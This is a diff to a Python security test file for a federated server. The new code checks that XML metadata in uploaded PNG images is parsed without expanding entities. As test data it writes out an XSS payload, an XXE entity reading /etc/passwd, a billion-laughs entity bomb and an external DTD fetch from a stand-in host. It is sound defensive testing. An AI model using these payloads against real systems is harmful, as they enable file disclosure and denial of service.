@@ -2,16 +2,22 @@
 
 from __future__ import annotations
 
+import io
 import re
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
+import pytest
 from attack_peers import Actor
 from attack_people import newcomer, png, signed_in
 from attack_world import BASE, World
+from PIL import Image
+from PIL.PngImagePlugin import PngInfo
 
 from fedserver.domain.text.clean import clean
+from fedserver.media.provenance import xmp
+from fedserver.media.provenance.parts import Broken
 
 PAYLOAD = '"><img src=x onerror=alert(1)>'
 TAGS = {
@@ -290,8 +296,9 @@ async def test_HTML_12_addresses_in_answers_are_of_the_web(world: World) -> None
             assert str(medium["url"] or "https://").startswith("https://") and medium["remote_url"] in (None, "")
 
 
-async def test_HTML_18_no_xml_is_read(world: World) -> None:
-    """There is no parser to attack: what peers send as XML is refused by its type, and no part imports one."""
+async def test_HTML_18_no_xml_is_expanded(world: World) -> None:
+    """What peers send as XML is refused by its type. One part reads XML at all: what pictures say of their making, in
+    the child process, and without document types."""
     reader = await newcomer(world)
     bomb = (
         b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b SYSTEM "file:///etc/passwd">]><XRD>&a;</XRD>'
@@ -302,11 +309,24 @@ async def test_HTML_18_no_xml_is_read(world: World) -> None:
         answer = await reader.get("/api/v2/search?q=@xml@evil.test&resolve=true&type=accounts")
         assert answer.status == 200 and answer.json["accounts"] == [], kind
     root = Path(__file__).resolve().parents[2]
-    for folder in ("fedserver", "protocol", "keys"):
-        for path in (root / folder).rglob("*.py"):
-            assert not re.search(r"^\s*(from|import) (xml|lxml|defusedxml|expat)\b", path.read_text(), re.MULTILINE), (
-                path
-            )
+    files = (path for folder in ("fedserver", "protocol", "keys") for path in (root / folder).rglob("*.py"))
+    imports = re.compile(r"^\s*(from|import) (xml|lxml|defusedxml|expat)\b", re.MULTILINE)
+    readers = [path.relative_to(root).as_posix() for path in files if imports.search(path.read_text())]
+    assert readers == ["fedserver/media/provenance/xmp.py"]
+    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
+    outside = "<!ENTITY l11 SYSTEM 'file:///etc/passwd'>"
+    for declared in (f'<!ENTITY l0 "ha">{laughs}', outside, '<!ENTITY % l SYSTEM "https://evil.test/x.dtd">%l;'):
+        rdf = f'<rdf:RDF xmlns:rdf="{xmp.RDF}" xmlns:dc="{xmp.DC}"><rdf:Description><dc:title>&l11;</dc:title>'
+        packet = f"<!DOCTYPE x [{declared}]>{rdf}</rdf:Description></rdf:RDF>"
+        with pytest.raises(Broken):
+            xmp.read([packet.encode()])
+        held = PngInfo()
+        held.add_itxt("XML:com.adobe.xmp", packet)
+        out = io.BytesIO()
+        Image.new("RGB", (32, 32), "teal").save(out, "PNG", pnginfo=held)
+        async with world.nothing_happens(tables=("statuses",)):
+            answer = await reader.upload(out.getvalue())
+            assert answer.status in (200, 202) and "root:" not in answer.text, answer.text
 
 
 async def test_HTML_21_nothing_leads_off_this_site(world: World) -> None:
